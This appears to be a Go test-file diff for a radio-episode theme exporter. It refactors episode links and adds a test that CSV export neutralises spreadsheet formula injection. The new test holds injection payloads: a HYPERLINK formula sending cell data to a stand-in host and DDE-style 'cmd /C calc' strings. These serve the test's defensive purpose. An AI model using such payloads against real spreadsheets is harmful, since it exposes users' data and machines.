@@ -90,10 +90,6 @@ var wantThemesP21 = []string{
 	"Spéciale été : PeerTube",
 }
 
-func episodeURL(e *episodes.Episode) string {
-	return "https://radio.picasoft.net/" + e.Show + "/episodes/" + e.Slug
-}
-
 func TestThemesGolden(t *testing.T) {
 	tests := []struct {
 		file string
@@ -104,8 +100,8 @@ func TestThemesGolden(t *testing.T) {
 		{"themes-md-intro-en.golden", ThemesOptions{Format: ThemesMarkdown, Lang: "en", Intro: true}},
 		{"themes-latex.golden", ThemesOptions{Format: ThemesLaTeX}},
 		{"themes-latex-intro-fr.golden", ThemesOptions{Format: ThemesLaTeX, Intro: true}},
-		{"themes-csv.golden", ThemesOptions{Format: ThemesCSV, Intro: true, EpisodeURL: episodeURL}},
-		{"themes-json.golden", ThemesOptions{Format: ThemesJSON, Intro: true, EpisodeURL: episodeURL}},
+		{"themes-csv.golden", ThemesOptions{Format: ThemesCSV, Intro: true, Links: testLinks(t)}},
+		{"themes-json.golden", ThemesOptions{Format: ThemesJSON, Intro: true, Links: testLinks(t)}},
 	}
 	eps := themesP21(t)
 	for _, tt := range tests {
@@ -187,7 +183,7 @@ func TestThemesLaTeXParsesBack(t *testing.T) {
 
 func TestThemesCSVParsesBack(t *testing.T) {
 	eps := themesP21(t)
-	out, err := Themes(eps, ThemesOptions{Format: ThemesCSV, EpisodeURL: episodeURL})
+	out, err := Themes(eps, ThemesOptions{Format: ThemesCSV, Links: testLinks(t)})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -204,7 +200,7 @@ func TestThemesCSVParsesBack(t *testing.T) {
 	first := records[1]
 	want := []string{
 		"2021-02-01", "2021-02-01T23:30:00+01:00", "Les logiciels libres à l'école", "Les logiciels libres à l'école",
-		"0:58:13", "3493", "https://radio.picasoft.net/lvel/episodes/feb-1", "Stéphane; Quentin", "Élise Dupré",
+		"0:58:13", "3493", "https://radio.picasoft.net/lvel/feb-1", "Stéphane; Quentin", "Élise Dupré",
 	}
 	if !slices.Equal(first, want) {
 		t.Errorf("got first row\n%q\nwant\n%q", first, want)
@@ -281,7 +277,7 @@ func TestThemesScheduledOnceOut(t *testing.T) {
 func TestThemesEmpty(t *testing.T) {
 	for _, f := range []ThemesFormat{"", ThemesMarkdown, ThemesLaTeX, ThemesCSV, ThemesJSON} {
 		for _, eps := range [][]*episodes.Episode{nil, {}} {
-			got, err := Themes(eps, ThemesOptions{Format: f, Intro: true, EpisodeURL: episodeURL})
+			got, err := Themes(eps, ThemesOptions{Format: f, Intro: true, Links: testLinks(t)})
 			if err != nil || got != nil {
 				t.Errorf("format %q, %d episodes: got %q, %v; want nil, nil", f, len(eps), got, err)
 			}
@@ -551,4 +547,43 @@ func unescapeMarkdown(s string) (string, error) {
 		}
 	}
 	return b.String(), nil
+}
+
+// TestThemesCSVFormulasInert exports episodes whose texts start like
+// spreadsheet formulas: every such CSV cell starts with a single quote,
+// and other cells are unchanged.
+func TestThemesCSVFormulasInert(t *testing.T) {
+	aired := parisTime(t, 2021, time.March, 5, 9, 30)
+	e := &episodes.Episode{
+		ID: "id-x", Show: "lvel", Slug: "x", AiredAt: aired, PublishAt: aired,
+		Title: `=HYPERLINK("http://evil.example/?"&A1,"clic")`, Theme: "+cmd|' /C calc'!A0",
+		Persons: []episodes.Person{{Name: "@SUM(1+1)*cmd|' /C calc'!A0"}, {Name: "-2+3", Role: episodes.RoleGuest}},
+	}
+	plain := &episodes.Episode{ID: "id-y", Show: "lvel", Slug: "y", AiredAt: aired, PublishAt: aired,
+		Title: "Libre = gratuit ?", Persons: []episodes.Person{{Name: "Zoé"}}}
+	out, err := Themes([]*episodes.Episode{e, plain}, ThemesOptions{Format: ThemesCSV})
+	if err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range records[1:] {
+		for i, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %d %q starts like a formula", i, cell)
+			}
+		}
+	}
+	want := [][]string{
+		{`'=HYPERLINK("http://evil.example/?"&A1,"clic")`, "'+cmd|' /C calc'!A0", "", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"},
+		{"Libre = gratuit ?", "Libre = gratuit ?", "", "Zoé", ""},
+	}
+	for i, w := range want {
+		r := records[i+1]
+		if got := []string{r[2], r[3], r[6], r[7], r[8]}; !slices.Equal(got, w) {
+			t.Errorf("row %d: got %q, want %q", i, got, w)
+		}
+	}
 }
